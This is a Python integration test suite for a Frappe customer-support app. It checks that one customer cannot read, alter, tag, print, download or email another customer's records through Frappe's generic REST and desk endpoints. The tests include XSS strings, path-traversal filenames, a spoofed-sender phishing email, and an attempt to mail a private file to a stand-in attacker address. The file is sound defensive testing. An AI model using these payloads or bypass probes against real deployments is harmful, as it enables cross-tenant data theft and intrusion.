"""Customer A attacks customer B over real HTTP, with A's API token and with A's browser session.

Two customers on this site, each with a contract and its holder, a site with apps, an issue with a private
file, an internal note and a staff email, an upgrade request and an advisory exposure; a draft (embargoed)
advisory; a staff tag on B's issue. Every generic surface of Frappe a reviewer would try is tried as A on
B's records. Each attack has a control: the same call answers for staff, or A reaches their own record
through the customer API. Every outcome is verified by reading the database again.
"""

from __future__ import annotations

import base64
import json
import re

import frappe
import requests
from frappe.utils import random_string

from tests.integration.committed import ServedTestCase, flush_deferred
from tests.integration.utils import draft_advisory, publish_frappe_advisory, unique

API = "/api/method/frappe_support.api.v1."
PASSWORD = "Fs-" + random_string(16)
APP_DOCTYPES = (
	"Support Contract",
	"Support Site",
	"Support Issue",
	"Advisory Exposure",
	"Upgrade Schedule",
	"Security Advisory",
)
CHILD_TABLES = {
	"Support Site App": "Support Site",
	"Support Contract Holder": "Support Contract",
	"Support Issue SLA Log": "Support Issue",
	"Upgrade Schedule App": "Upgrade Schedule",
	"Security Advisory Range": "Security Advisory",
}
REFUSED = (401, 403, 404, 417)


class Caller:
	"""One identity over HTTP: a token, or a logged-in browser session (cookies and CSRF token)."""

	def __init__(self, url: str, token: str | None = None, login: tuple[str, str] | None = None):
		self.url, self.http = url, requests.Session()
		if token:
			self.http.headers["Authorization"] = token
		if login:
			r = self.http.post(url + "/api/method/login", data={"usr": login[0], "pwd": login[1]}, timeout=30)
			assert r.status_code == 200, r.text[:500]
			# as a browser does: the CSRF token a page of the site carries goes with every POST
			found = re.search(r'frappe.csrf_token = "([^"]+)"', self.http.get(url + "/me", timeout=30).text)
			if found:
				self.http.headers["X-Frappe-CSRF-Token"] = found.group(1)
		self.http.headers["Accept"] = "application/json"

	def get(self, path: str, **params) -> requests.Response:
		return self.http.get(self.url + path, params=params, timeout=30, allow_redirects=False)

	def post(self, path: str, **data) -> requests.Response:
		body = {k: json.dumps(v) if isinstance(v, dict | list) else v for k, v in data.items()}
		return self.http.post(self.url + path, data=body, timeout=30, allow_redirects=False)

	def method(self, _method: str, **data) -> requests.Response:
		return self.post("/api/method/" + _method, **data)


class TestCustomerAttacks(ServedTestCase):
	@classmethod
	def make_records(cls):
		helper, made = cls("test_the_desk_is_for_staff_only"), cls.committed.add
		calendar = cls.two_customers(helper)
		cls.ensure_account = made("Email Account", helper.ensure_outgoing_account() or "")
		cls.rec = {}
		for customer in (cls.mine, cls.theirs):
			cls.rec[customer] = cls.records_of(helper, customer, calendar)
		cls.advisory = made("Security Advisory", publish_frappe_advisory("Adversarial advisory").name)
		cls.draft = made("Security Advisory", cls.draft_advisory())
		for customer in (cls.mine, cls.theirs):
			cls.rec[customer]["Advisory Exposure"] = frappe.db.get_value(
				"Advisory Exposure", {"advisory": cls.advisory, "customer": customer}
			)
		cls.user, key, secret = cls.committed.user("Alice", ["Support Customer"], cls.mine, PASSWORD)
		cls.other_user, okey, osecret = cls.committed.user("Bob", ["Support Customer"], cls.theirs, PASSWORD)
		cls.staff, skey, ssecret = cls.committed.user("Staff", ["Support Engineer"], password=PASSWORD)
		cls.tokens = {
			"a": f"token {key}:{secret}",
			"b": f"token {okey}:{osecret}",
			"staff": f"token {skey}:{ssecret}",
		}
		frappe.get_doc("Support Issue", cls.theirs_("Support Issue")).add_tag("vip-" + random_string(5))

	@classmethod
	def records_of(cls, helper, customer: str, calendar: str) -> dict:
		made = cls.committed.add
		holder = helper.make_holder(customer)
		made("Contact", holder.name)
		contract = helper.make_contract(
			customer,
			calendar=calendar,
			covers_security_alerts=1,
			covers_upgrade=1,
			holders=[{"contact": holder.name, "notify_issues": 1}],
		)
		site = helper.make_site(customer, contract.name, {"frappe": "15.50.0"})
		issue = helper.make_issue(contract, opening=frappe.utils.now(), site=site)
		issue.add_comment("Comment", "Internal: " + unique("secret note"))
		file = frappe.get_doc(
			{
				"doctype": "File",
				"file_name": f"{random_string(8)}.txt",
				"is_private": 1,
				"attached_to_doctype": "Support Issue",
				"attached_to_name": issue.name,
				"content": b"private log of " + customer.encode(),
			}
		).insert()
		upgrade = frappe.get_doc(
			{
				"doctype": "Upgrade Schedule",
				"site": site,
				"status": "Requested",
				"window_start": "2027-03-02 10:00:00",
				"window_end": "2027-03-02 11:00:00",
				"apps": [{"app_name": "frappe", "to_version": "15.90.0"}],
			}
		).insert()
		return {
			"Support Contract": made("Support Contract", contract.name),
			"Support Site": made("Support Site", site),
			"Support Issue": issue.name,
			"Upgrade Schedule": upgrade.name,
			"File": made("File", file.name),
			"file_url": file.file_url,
			"Contact": holder.name,
			"email": holder.email_id,
			"subject": issue.subject,
		}

	@classmethod
	def draft_advisory(cls) -> str:
		return draft_advisory("Embargoed RCE", "< 15.99.0", "15.99.0", severity="Critical").name

	@classmethod
	def theirs_(cls, key: str) -> str:
		return cls.rec[cls.theirs][key]

	@classmethod
	def mine_(cls, key: str) -> str:
		return cls.rec[cls.mine][key]

	@classmethod
	def start_services(cls):
		super().start_services()
		url = cls.served.url
		cls.callers = {
			"token": Caller(url, token=cls.tokens["a"]),
			"session": Caller(url, login=(cls.user, PASSWORD)),
		}
		cls.staff_caller = Caller(url, token=cls.tokens["staff"])

	# -- helpers ---------------------------------------------------------------------------------------
	def attackers(self):
		for how, caller in self.callers.items():
			with self.subTest(auth=how):
				yield caller

	def refused(self, response: requests.Response, what: str = ""):
		self.assertIn(response.status_code, REFUSED, f"{what}: {response.status_code} {response.text[:300]}")
		self.assertNotIn(self.theirs_("subject"), response.text, what)

	def no_trace_of_theirs(self, response: requests.Response, what: str = ""):
		"""Refused, or answered without any of B's names and titles."""
		self.assertNotEqual(response.status_code, 500, f"{what}: {response.text[:300]}")
		for key in (
			"Support Issue",
			"subject",
			"Support Site",
			"Support Contract",
			"Upgrade Schedule",
			"email",
		):
			self.assertNotIn(self.theirs_(key), response.text, f"{what} leaks {key}")
		draft_title = frappe.db.get_value("Security Advisory", self.draft, "title")
		self.assertNotIn(draft_title, response.text, f"{what} leaks the draft advisory")

	def ok(self, response: requests.Response):
		self.assertEqual(response.status_code, 200, response.text[:500])
		return response.json().get("message")

	def setUp(self):
		super().setUp()
		frappe.cache.delete_keys("frappe_support:customer-api:")  # each test its own rate budget

	@staticmethod
	def forget_errors(since: str, method: str) -> None:
		frappe.db.rollback()
		flush_deferred()  # Frappe defers the Error Log of a failed request
		frappe.db.delete("Error Log", {"creation": (">=", since), "error": ("like", f"%{method}%")})
		frappe.db.commit()

	def fresh(self):
		frappe.db.rollback()  # read what the served site committed

	# -- the desk and the generic REST API ---------------------------------------------------------------
	def test_the_desk_is_for_staff_only(self):
		self.assertEqual(frappe.db.get_value("User", self.user, "user_type"), "Website User")
		response = self.callers["session"].get("/app/support-issue")
		self.assertEqual(response.status_code, 403, response.text[:300])
		staff = Caller(self.served.url, login=(self.staff, PASSWORD))
		self.assertEqual(staff.get("/app/support-issue").status_code, 200)

	def test_resource_api_reads_nothing_of_any_app_doctype(self):
		for doctype in APP_DOCTYPES:
			name = self.draft if doctype == "Security Advisory" else self.theirs_(doctype)
			control = self.staff_caller.get(f"/api/resource/{doctype}/{name}")
			self.assertEqual(control.status_code, 200, doctype)
			for caller in self.attackers():
				self.refused(caller.get(f"/api/resource/{doctype}/{name}"), doctype)
				self.no_trace_of_theirs(
					caller.get(f"/api/resource/{doctype}", fields='["*"]', limit=500), doctype
				)
		for child, parent in CHILD_TABLES.items():
			for caller in self.attackers():
				for params in ({}, {"parent": parent}):
					response = caller.get(f"/api/resource/{child}", fields='["*"]', limit=500, **params)
					self.no_trace_of_theirs(response, child)
					self.assertNotIn("15.50.0", response.text, child)

	def test_resource_api_writes_nothing(self):
		issue = self.theirs_("Support Issue")
		for caller in self.attackers():
			takeover = {
				"customer": self.mine,
				"contract": self.mine_("Support Contract"),
				"site": self.mine_("Support Site"),
			}
			self.refused(
				caller.http.put(
					f"{self.served.url}/api/resource/Support Issue/{issue}", json=takeover, timeout=30
				)
			)
			self.refused(
				caller.method(
					"frappe.client.set_value",
					doctype="Support Issue",
					name=issue,
					fieldname="customer",
					value=self.mine,
				)
			)
			doc = frappe.get_doc("Support Issue", issue).as_dict()
			doc.update(takeover)
			self.refused(
				caller.method(
					"frappe.desk.form.save.savedocs", doc=json.dumps(doc, default=str), action="Save"
				)
			)
			# Frappe reports the refusal of a bulk delete as a message: nothing is deleted
			deleting = caller.method(
				"frappe.desk.reportview.delete_items", items=json.dumps([issue]), doctype="Support Issue"
			)
			self.assertTrue(
				deleting.status_code in REFUSED or "does not have doctype access" in deleting.text,
				deleting.text[:300],
			)
			self.refused(caller.method("frappe.client.save", doc=json.dumps(doc, default=str)))
			self.refused(
				caller.http.put(
					f"{self.served.url}/api/resource/Upgrade Schedule/{self.theirs_('Upgrade Schedule')}",
					json={"site": self.mine_("Support Site")},
					timeout=30,
				)
			)
			self.refused(
				caller.http.delete(f"{self.served.url}/api/resource/Support Issue/{issue}", timeout=30)
			)
			made = caller.http.post(
				f"{self.served.url}/api/resource/Support Issue",
				json={
					"subject": "Forged",
					"customer": self.theirs,
					"contract": self.theirs_("Support Contract"),
				},
				timeout=30,
			)
			self.refused(made)
			self.refused(
				caller.method(
					"frappe.client.insert",
					doc=json.dumps({"doctype": "Support Issue", "subject": "x", "customer": self.mine}),
				)
			)
		self.fresh()
		self.assertEqual(
			frappe.db.get_value("Support Issue", issue, ["customer", "contract", "site"]),
			(self.theirs, self.theirs_("Support Contract"), self.theirs_("Support Site")),
		)
		self.assertEqual(
			frappe.db.get_value("Upgrade Schedule", self.theirs_("Upgrade Schedule"), "site"),
			self.theirs_("Support Site"),
		)
		self.assertFalse(frappe.db.exists("Support Issue", {"subject": "Forged"}))
		self.assertEqual(frappe.db.count("Support Issue", {"customer": self.mine}), 1)

	def test_frappe_client_reads_nothing(self):
		issue = self.theirs_("Support Issue")
		self.assertEqual(
			self.ok(
				self.staff_caller.method(
					"frappe.client.get_value",
					doctype="Support Issue",
					filters=json.dumps({"name": issue}),
					fieldname="subject",
				)
			)["subject"],
			self.theirs_("subject"),
		)
		for caller in self.attackers():
			for call, args in (
				("frappe.client.get", {"doctype": "Support Issue", "name": issue}),
				(
					"frappe.client.get_value",
					{
						"doctype": "Support Issue",
						"filters": json.dumps({"name": issue}),
						"fieldname": "subject",
					},
				),
				("frappe.client.get_count", {"doctype": "Support Issue"}),
				(
					"frappe.client.get_list",
					{"doctype": "Support Site App", "parent": "Support Site", "fields": '["*"]'},
				),
				(
					"frappe.client.get_list",
					{
						"doctype": "Upgrade Schedule",
						"fields": '["issue.subject", "issue.description", "name"]',
					},
				),
				("frappe.client.validate_link", {"doctype": "Support Issue", "docname": issue}),
				("frappe.client.validate_link", {"doctype": "Security Advisory", "docname": self.draft}),
				("frappe.desk.form.load.getdoc", {"doctype": "Support Issue", "name": issue}),
				("frappe.desk.form.load.get_docinfo", {"doctype": "Support Issue", "name": issue}),
				("frappe.desk.reportview.get", {"doctype": "Support Issue", "fields": '["name", "subject"]'}),
				("frappe.desk.reportview.get_list", {"doctype": "Support Site", "fields": '["*"]'}),
				("frappe.desk.reportview.get_count", {"doctype": "Support Issue"}),
				(
					"frappe.desk.reportview.export_query",
					{"doctype": "Support Issue", "file_format_type": "CSV", "fields": '["name", "subject"]'},
				),
				("frappe.desk.reportview.get", {"doctype": "Support Site App", "fields": '["*"]'}),
				("frappe.client.get_list", {"doctype": "Support Contract Holder", "fields": '["*"]'}),
				(
					"frappe.desk.reportview.get_sidebar_stats",
					{"doctype": "Support Issue", "stats": '["_user_tags"]'},
				),
				(
					"frappe.desk.reportview.get_stats",
					{"doctype": "Support Issue", "stats": '["status", "customer"]'},
				),
				("frappe.desk.query_report.run", {"report_name": "SLA Compliance", "filters": "{}"}),
				("frappe.desk.query_report.run", {"report_name": "Issues Due Soon", "filters": "{}"}),
				(
					"frappe.desk.form.linked_with.get",
					{
						"doctype": "Customer",
						"docname": self.theirs,
						"linkinfo": '{"Support Issue": {"fieldname": ["customer"]}}',
					},
				),
				(
					"frappe.desk.search.search_widget",
					{"doctype": "Support Issue", "txt": self.theirs_("subject")[:12]},
				),
			):
				response = caller.method(call, **args)
				self.no_trace_of_theirs(response, call)
				self.assertNotEqual(response.status_code, 200, f"{call} answered {response.text[:200]}")
			# the next record's name after one of A's own: Frappe answers, with nothing of B's
			nxt = caller.method(
				"frappe.desk.form.utils.get_next",
				doctype="Support Issue",
				value=self.mine_("Support Issue"),
				prev=0,
			)
			self.no_trace_of_theirs(nxt, "get_next")

	def test_counts_search_and_titles_reveal_nothing(self):
		issue = self.theirs_("Support Issue")
		self.assertEqual(
			self.ok(
				self.staff_caller.method(
					"frappe.desk.search.get_link_title", doctype="Support Issue", docname=issue
				)
			),
			self.theirs_("subject"),
		)
		draft_title = frappe.db.get_value("Security Advisory", self.draft, "title")
		for caller in self.attackers():
			for field in ("assigned_to", "owner", "customer", "status"):
				response = caller.method(
					"frappe.desk.listview.get_group_by_count",
					doctype="Support Issue",
					field=field,
					current_filters=json.dumps([["Support Issue", "name", "=", issue]]),
				)
				self.no_trace_of_theirs(response, field)
				if response.status_code == 200:
					self.assertEqual(response.json()["message"], [], f"{field} counts {response.text[:200]}")
			control = self.staff_caller.method(
				"frappe.desk.listview.get_group_by_count",
				doctype="Support Issue",
				field="status",
				current_filters=json.dumps([["Support Issue", "name", "=", issue]]),
			)
			self.assertEqual([r["count"] for r in self.ok(control)], [1])
			for doctype, text in (
				("Support Issue", self.theirs_("subject")),
				("Security Advisory", draft_title),
				("Support Site", "example.com"),
				("Customer", self.theirs),
			):
				self.no_trace_of_theirs(
					caller.method("frappe.desk.search.search_link", doctype=doctype, txt=text[:20]), doctype
				)
			for doctype, name in (("Support Issue", issue), ("Security Advisory", self.draft)):
				response = caller.method("frappe.desk.search.get_link_title", doctype=doctype, docname=name)
				self.assertIn(response.status_code, (200, *REFUSED))
				self.assertEqual(
					response.json().get("message"), name if response.status_code == 200 else None
				)

	def test_the_portal_shows_their_records_to_no_one_else(self):
		session = self.callers["session"]
		own = session.get(f"/support/issues/{self.mine_('Support Issue')}")
		self.assertEqual(own.status_code, 200)
		self.assertIn(self.mine_("subject"), own.text)
		self.refused(session.get(f"/support/issues/{self.theirs_('Support Issue')}"), "portal issue page")
		dashboard = session.get("/support")
		self.assertEqual(dashboard.status_code, 200)
		self.assertIn(self.mine_("subject"), dashboard.text)
		self.no_trace_of_theirs(dashboard, "portal dashboard")
		self.assertIn(session.get("/support/issues/SUP-ISS-NO-SUCH").status_code, (404,))
		# staff are sent to the desk; guests to the login
		self.assertEqual(self.staff_caller.get("/support").status_code, 403)
		self.assertIn(
			"/login",
			requests.get(self.served.url + "/support", allow_redirects=False, timeout=30).headers.get(
				"Location", ""
			),
		)

	def test_forged_documents_change_nothing(self):
		exposure = self.theirs_("Advisory Exposure")
		forged = frappe.get_doc("Advisory Exposure", exposure).as_dict()
		forged.update({"customer": self.mine, "site": self.mine_("Support Site")})
		for caller in self.attackers():
			self.refused(
				caller.method("run_doc_method", docs=json.dumps(forged, default=str), method="acknowledge")
			)
			self.refused(
				caller.method("run_doc_method", dt="Advisory Exposure", dn=exposure, method="acknowledge")
			)
			self.refused(caller.method("frappe_support.api.v1.acknowledge_exposure", name=exposure))
		self.fresh()
		self.assertIsNone(frappe.db.get_value("Advisory Exposure", exposure, "acknowledged_on"))
		# control: A acknowledges their own exposure through the customer API
		self.ok(
			self.callers["token"].method(
				"frappe_support.api.v1.acknowledge_exposure", name=self.mine_("Advisory Exposure")
			)
		)
		self.fresh()
		self.assertEqual(
			frappe.db.get_value("Advisory Exposure", self.mine_("Advisory Exposure"), "acknowledged_by"),
			self.user,
		)

	def test_booking_the_fix_of_their_exposure_changes_nothing(self):
		exposure, upgrade = self.theirs_("Advisory Exposure"), self.theirs_("Upgrade Schedule")
		apps = frappe.get_all(
			"Upgrade Schedule App", filters={"parent": upgrade}, fields=["app_name", "to_version"]
		)
		for caller in self.attackers():
			self.refused(caller.get(API + "fix_plan", name=exposure), "fix_plan")
			self.refused(caller.method("frappe_support.api.v1.book_fix", name=exposure), "book_fix")
			self.refused(
				caller.method(
					"frappe_support.api.v1.book_fix", name=exposure, window_start="2027-03-02T10:00:00+01:00"
				)
			)
			for method in ("book_fix", "fix_plan"):
				self.refused(
					caller.method("run_doc_method", dt="Advisory Exposure", dn=exposure, method=method)
				)
		self.fresh()
		self.assertIsNone(frappe.db.get_value("Advisory Exposure", exposure, "upgrade_schedule"))
		self.assertEqual(
			frappe.get_all(
				"Upgrade Schedule App", filters={"parent": upgrade}, fields=["app_name", "to_version"]
			),
			apps,
		)
		# control: A books the fix of their own exposure, which joins their site's open upgrade
		mine, my_upgrade = self.mine_("Advisory Exposure"), self.mine_("Upgrade Schedule")
		plan = self.ok(self.callers["token"].get(API + "fix_plan", name=mine))
		self.assertEqual((plan["open_upgrade"], plan["to_version"]), (my_upgrade, "15.72.0"))
		booked = self.ok(self.callers["token"].method("frappe_support.api.v1.book_fix", name=mine))
		self.assertEqual(booked["name"], my_upgrade)
		self.fresh()
		self.assertEqual(frappe.db.get_value("Advisory Exposure", mine, "upgrade_schedule"), my_upgrade)

	def test_the_desk_helpers_answer_staff_only(self):
		"""What the desk's forms and lists call when a link is picked or a page is drawn (issue 19): the
		site's contract and apps, a customer's contract, free windows, list clocks, matching progress,
		the deadline explanation. A customer gets none of it for B's records, nor for their own; staff do."""
		site, issue = self.theirs_("Support Site"), self.theirs_("Support Issue")
		calls = {
			"frappe_support.sites.picking.site_defaults": {"site": site},
			"frappe_support.sites.picking.customer_contract": {"customer": self.theirs},
			"frappe_support.upgrades.reminders.free_windows": {"site": site},
			"frappe_support.issues.panel.list_clocks": {"names": [issue, self.mine_("Support Issue")]},
			"frappe_support.advisories.progress.matching_state": {"advisory": self.advisory},
			"frappe_support.frappe_support.doctype.support_issue.support_issue.explain_deadline": {
				"name": issue
			},
		}
		modified = frappe.db.get_value("Support Issue", issue, "modified")
		for caller in self.attackers():
			for method, args in calls.items():
				self.refused(caller.method(method, **args), method)
				self.no_trace_of_theirs(caller.method(method, **args), method)
		self.fresh()
		self.assertEqual(frappe.db.get_value("Support Issue", issue, "modified"), modified)
		# control: the same calls answer support staff
		staff = Caller(self.served.url, token=self.tokens["staff"])
		answers = {method: self.ok(staff.method(method, **args)) for method, args in calls.items()}
		self.assertEqual(
			answers["frappe_support.sites.picking.site_defaults"]["contract"],
			self.theirs_("Support Contract"),
		)
		self.assertIn(issue, answers["frappe_support.issues.panel.list_clocks"])
		self.assertEqual(answers["frappe_support.advisories.progress.matching_state"]["state"], "done")

	def test_prints_show_nothing(self):
		issue = self.theirs_("Support Issue")
		control = self.staff_caller.get("/printview", doctype="Support Issue", name=issue)
		self.assertIn(self.theirs_("subject"), control.text)
		for caller in self.attackers():
			self.no_trace_of_theirs(
				caller.get("/printview", doctype="Support Issue", name=issue), "printview"
			)
			self.refused(
				caller.get(
					"/api/method/frappe.utils.print_format.download_pdf", doctype="Support Issue", name=issue
				)
			)
			self.refused(
				caller.method(
					"frappe.www.printview.get_html_and_style",
					doc=json.dumps({"doctype": "Upgrade Schedule", "name": "x", "issue": issue}),
					print_format="Standard",
				)
			)
			self.refused(
				caller.get(
					"/api/method/frappe.utils.print_format.download_pdf",
					doctype="Support Contract",
					name=self.theirs_("Support Contract"),
					format="SLA Statement",
				)
			)

	# -- files and mail ------------------------------------------------------------------------------------
	def test_files_of_theirs_cannot_be_listed_copied_or_downloaded(self):
		url, file = self.theirs_("file_url"), self.theirs_("File")
		self.assertEqual(self.staff_caller.get(url).status_code, 200)
		files_before = frappe.db.count("File", {"file_url": url})
		for caller in self.attackers():
			listed = caller.method(
				"frappe.client.get_list", doctype="File", fields='["name", "file_url"]', limit_page_length=0
			)
			self.assertNotIn(file, listed.text)
			self.refused(caller.get(url), "download")
			self.refused(
				caller.post("/api/method/upload_file", file_url=url, is_private=1), "upload_file copy"
			)
			self.refused(
				caller.http.post(
					f"{self.served.url}/api/resource/File",
					json={"file_url": url, "is_private": 1},
					timeout=30,
				),
				"File copy",
			)
			self.refused(caller.method("frappe_support.api.v1.download_file", name=file))
			self.refused(
				caller.method(
					"frappe.core.doctype.communication.email.make",
					doctype="Support Issue",
					name=self.mine_("Support Issue"),
					content="see attached",
					recipients="attacker@fs-evil.example.org",
					send_email=1,
					attachments=json.dumps([file]),
				),
				"email.make attachments",
			)
			self.refused(caller.get(url), "download after the attempts")
		self.fresh()
		self.assertEqual(frappe.db.count("File", {"file_url": url}), files_before)
		# control: A attaches a file to their own issue and downloads it through the customer API
		attached = self.ok(
			self.callers["token"].method(
				"frappe_support.api.v1.attach_file",
				issue=self.mine_("Support Issue"),
				filename="trace.log",
				content=base64.b64encode(b"Traceback: boom").decode(),
			)
		)
		got = self.callers["session"].get(API + "download_file", name=attached["name"])
		self.assertEqual((got.status_code, got.content), (200, b"Traceback: boom"))
		self.refused(
			self.callers["token"].method(
				"frappe_support.api.v1.attach_file",
				issue=self.theirs_("Support Issue"),
				filename="x.txt",
				content=base64.b64encode(b"x").decode(),
			)
		)
		self.refused(
			self.callers["token"].method(
				"frappe_support.api.v1.attach_file",
				issue=self.mine_("Support Issue"),
				filename="x.html",
				content=base64.b64encode(b"<script>").decode(),
			)
		)

	def test_issue_news_tells_only_their_own(self):
		mine, theirs = self.mine_("Support Issue"), self.theirs_("Support Issue")
		for caller in self.attackers():
			news = self.ok(
				caller.method("frappe_support.api.v1.issue_news", names=[mine, theirs, "SUP-ISS-x"])
			)
			self.assertEqual([n["name"] for n in news], [mine])  # theirs is left out, unnamed
			self.assertNotIn(theirs, json.dumps(news))
			self.refused(caller.method("frappe_support.api.v1.issue_news", names=["x"] * 1001), "too many")

	def test_file_uploads_with_tricks_change_nothing_but_their_own(self):
		"""Path tricks in a name keep only its last part; another customer's issue, a file of another customer
		by its URL, oversized and wrong-type uploads (multipart too, as the connector sends them) are refused;
		each outcome read back from the database."""
		mine, theirs = self.mine_("Support Issue"), self.theirs_("Support Issue")
		their_files = frappe.db.count("File", {"attached_to_name": theirs})
		caller = self.callers["token"]
		tricky = self.ok(
			caller.method(
				"frappe_support.api.v1.attach_file",
				issue=mine,
				filename="../../../sites/common_site_config.json",
				content=base64.b64encode(b'{"mine": 1}').decode(),
			)
		)
		self.fresh()
		stored = frappe.get_doc("File", tricky["name"])
		self.assertEqual((stored.file_name, stored.is_private), ("common_site_config.json", 1))
		self.assertTrue(stored.file_url.startswith("/private/files/"))
		self.assertNotIn("..", stored.file_url)
		frappe.db.set_single_value("Frappe Support Settings", "attachment_max_mb", 1)  # the settings' limit
		frappe.db.commit()
		frappe.clear_document_cache("Frappe Support Settings", "Frappe Support Settings")
		try:
			for files, issue, says in (
				([("file", ("x.txt", b"x", "text/plain"))], theirs, ""),
				([("file", ("big.log", b"x" * (2 * 1024 * 1024), "text/plain"))], mine, "at most 1 MB"),
				([("file", ("run.sh", b"#!/bin/sh", "text/x-sh"))], mine, "cannot be attached"),
				(
					[("file", ("page.HTML", b"<script>alert(1)</script>", "text/html"))],
					mine,
					"cannot be attached",
				),
			):
				response = caller.http.post(
					caller.url + "/api/method/frappe_support.api.v1.attach_file",
					data={"issue": issue},
					files=files,
					timeout=60,
				)
				self.refused(response, files[0][1][0])
				self.assertIn(says, response.text)
		finally:
			frappe.db.set_single_value("Frappe Support Settings", "attachment_max_mb", 10)
			frappe.db.commit()
			frappe.clear_document_cache("Frappe Support Settings", "Frappe Support Settings")
		for url in (self.theirs_("file_url"), "/private/files/../../site_config.json"):
			self.refused(caller.method("frappe_support.api.v1.download_file", name=url), url)
		self.fresh()
		self.assertEqual(frappe.db.count("File", {"attached_to_name": theirs}), their_files)
		mine_now = frappe.get_all("File", filters={"attached_to_name": mine}, pluck="file_name")
		self.assertFalse({"big.log", "run.sh", "page.HTML"} & set(mine_now))  # nothing refused was kept

	def test_no_mail_goes_out_as_the_provider(self):
		queued = frappe.db.count("Email Queue")
		for caller in self.attackers():
			for issue in (self.mine_("Support Issue"), self.theirs_("Support Issue")):
				self.refused(
					caller.method(
						"frappe.core.doctype.communication.email.make",
						doctype="Support Issue",
						name=issue,
						content="Please pay to this account",
						recipients=self.theirs_("email"),
						sender="ceo@fs-provider.example.com",
						send_email=1,
						subject="Invoice",
					)
				)
		self.fresh()
		self.assertEqual(frappe.db.count("Email Queue"), queued)
		self.assertFalse(frappe.db.exists("Communication", {"content": ("like", "%pay to this account%")}))

	def test_tags_assignments_shares_follows_and_logs(self):
		issue = self.theirs_("Support Issue")
		self.addCleanup(self.forget_errors, frappe.utils.now(), "frappe.desk.doctype.tag.tag.add_tag")
		tagged = frappe.get_all("Tag Link", filters={"document_name": issue}, pluck="name")
		self.assertEqual(len(tagged), 1)
		staff_tags = self.staff_caller.method(
			"frappe.client.get_list", doctype="Tag Link", fields='["document_name"]', limit_page_length=0
		)
		self.assertIn(issue, staff_tags.text)
		for caller in self.attackers():
			for doctype, args in (
				("Tag Link", {}),
				("ToDo", {}),
				("Notification Log", {}),
				("Version", {}),
				("Comment", {}),
				("Communication", {}),
				("Contact", {}),
				("DocShare", {}),
				("Document Follow", {}),
				("Access Log", {}),
				("Dynamic Link", {"parent": "Contact"}),
				("Contact Email", {"parent": "Contact"}),
				("Has Role", {"parent": "User"}),
			):
				response = caller.method(
					"frappe.client.get_list", doctype=doctype, fields='["*"]', limit_page_length=0, **args
				)
				self.no_trace_of_theirs(response, doctype)
			# Frappe's add_tag turns the refusal into a 500 (and an Error Log): nothing is tagged all the same
			tagging = caller.method(
				"frappe.desk.doctype.tag.tag.add_tag", tag="pwned", dt="Support Issue", dn=issue
			)
			self.assertIn(tagging.status_code, (*REFUSED, 500))
			self.assertIn("does not have doctype access", tagging.text)
			self.refused(
				caller.method(
					"frappe.desk.form.assign_to.add",
					doctype="Support Issue",
					name=issue,
					assign_to=json.dumps([self.user]),
				)
			)
			self.refused(
				caller.method("frappe.share.add", doctype="Support Issue", name=issue, user=self.user, read=1)
			)
			following = caller.method(
				"frappe.desk.form.document_follow.follow_document",
				doctype="Support Issue",
				doc_name=issue,
				user=self.user,
			)
			self.assertTrue(
				following.status_code in REFUSED or not following.json().get("message"), following.text[:300]
			)
			self.refused(
				caller.method(
					"frappe.desk.form.utils.add_comment",
					reference_doctype="Support Issue",
					reference_name=issue,
					content="hi",
					comment_email=self.user,
					comment_by="A",
				)
			)
		self.fresh()
		self.assertEqual(frappe.get_all("Tag Link", filters={"document_name": issue}, pluck="name"), tagged)
		self.assertFalse(frappe.db.exists("ToDo", {"reference_name": issue}))
		self.assertFalse(frappe.db.exists("DocShare", {"share_name": issue}))
		self.assertFalse(frappe.db.exists("Document Follow", {"ref_docname": issue}))
		self.assertFalse(frappe.db.exists("Comment", {"reference_name": issue, "content": ("like", "%hi%")}))

	# -- the sanctioned door -------------------------------------------------------------------------------
	def test_the_customer_api_reaches_only_their_own(self):
		for caller in self.attackers():
			issues = self.ok(caller.get(API + "list_issues"))
			self.assertEqual([i["name"] for i in issues], [self.mine_("Support Issue")])
			got = self.ok(caller.get(API + "get_issue", name=self.mine_("Support Issue")))
			self.assertEqual(got["subject"], self.mine_("subject"))
			self.assertNotIn("Internal:", json.dumps(got))
			for method, args in (
				("get_issue", {"name": self.theirs_("Support Issue")}),
				("get_site", {"site": self.theirs_("Support Site")}),
				("get_contract", {"contract": self.theirs_("Support Contract")}),
				("upgrade_slots", {"site": self.theirs_("Support Site")}),
				("list_exposures", {"site": self.theirs_("Support Site")}),
				("fix_plan", {"name": self.theirs_("Advisory Exposure")}),
				("list_upgrades", {"site": self.theirs_("Support Site")}),
				("statement_pdf", {"contract": self.theirs_("Support Contract"), "month": "2026-10"}),
			):
				self.refused(caller.get(API + method, **args), method)
			for method, args in (
				("reply", {"issue": self.theirs_("Support Issue"), "message": "mine now"}),
				("cancel_upgrade", {"name": self.theirs_("Upgrade Schedule")}),
				("reopen_issue", {"name": self.theirs_("Support Issue")}),
				("raise_issue", {"subject": "On their site", "site": self.theirs_("Support Site")}),
				("raise_issue", {"subject": "As their contact", "raised_by": self.theirs_("email")}),
				(
					"request_upgrade",
					{
						"site": self.theirs_("Support Site"),
						"window_start": "2027-03-02T10:00:00+01:00",
						"window_end": "2027-03-02T11:00:00+01:00",
						"apps": [{"app_name": "frappe", "to_version": "15.90.0"}],
					},
				),
				("report_site", {"site": self.theirs_("Support Site"), "apps": {"frappe": "15.0.0"}}),
			):
				self.refused(caller.method("frappe_support.api.v1." + method, **args), method)
		# ownership never comes from the request: extra fields naming B are ignored
		made = self.ok(
			self.callers["token"].method(
				"frappe_support.api.v1.raise_issue",
				subject=unique("Ours"),
				customer=self.theirs,
				contract=self.theirs_("Support Contract"),
			)
		)
		self.fresh()
		self.assertEqual(
			frappe.db.get_value("Support Issue", made["name"], ["customer", "contract"]),
			(self.mine, self.mine_("Support Contract")),
		)
		self.assertEqual(
			frappe.db.get_value("Upgrade Schedule", self.theirs_("Upgrade Schedule"), "status"), "Requested"
		)
		self.assertEqual(
			frappe.db.count(
				"Communication",
				{"reference_name": self.theirs_("Support Issue"), "content": ("like", "%mine now%")},
			),
			0,
		)
		self.assertEqual(
			frappe.db.get_value("Support Site App", {"parent": self.theirs_("Support Site")}, "version"),
			"15.50.0",
		)

	def test_what_customers_write_is_stored_harmless(self):
		script = '"<img src=x onerror=alert(document.cookie)>"'
		caller = self.callers["session"]
		made = self.ok(
			caller.method(
				"frappe_support.api.v1.raise_issue",
				subject="Broken " + script,
				description=script + "<script>alert(1)</script><p>The form is blank</p>",
			)
		)
		self.ok(
			caller.method("frappe_support.api.v1.reply", issue=made["name"], message=script + " still blank")
		)
		self.fresh()
		subject, description = frappe.db.get_value("Support Issue", made["name"], ["subject", "description"])
